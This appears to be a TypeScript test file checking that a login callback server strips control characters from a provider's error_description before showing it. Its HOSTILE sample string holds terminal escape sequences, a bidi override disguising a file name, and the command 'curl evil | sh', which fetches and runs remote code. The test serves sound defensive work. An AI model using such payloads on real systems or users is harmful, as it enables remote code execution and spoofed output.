// The callback server's pages show a provider's text without its control characters: a callback
// whose error_description carries terminal escapes and a bidi override, over real HTTP.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startEmulator } from "../../../emulator/mod.ts";
import { serveApp } from "./_serve.ts";
import { CONTROL_CHARACTERS } from "../../helpers/text.ts";

const HOSTILE = "\x1b]0;pwned\x07\x1b[2Jrun \x1b[31mcurl evil | sh\x1b[0m \u202Egnp.exe\x00";
let emu: Awaited<ReturnType<typeof startEmulator>>;
beforeAll(async () => void (emu = await startEmulator({ port: 0 })));
afterAll(async () => await emu?.close());

describe("the login failed page", () => {
  it("shows the words of a hostile error_description and none of its control characters", async () => {
    const served = await serveApp(emu);
    try {
      const login = await fetch(`${served.origin}/login`, { redirect: "manual" });
      const state = new URL(login.headers.get("location")!).searchParams.get("state")!;
      const page = await fetch(
        `${served.origin}/callback?error=access_denied&error_description=${encodeURIComponent(HOSTILE)}&state=${state}`,
      );
      const body = await page.text();
      expect(page.status).toBe(400);
      expect(body).toContain("refused the login: access_denied (run curl evil | sh gnp.exe)");
      expect(body).not.toMatch(CONTROL_CHARACTERS);
      expect(await served.finished).toBeInstanceOf(Error);
    } finally {
      await served.stop();
    }
  });
});
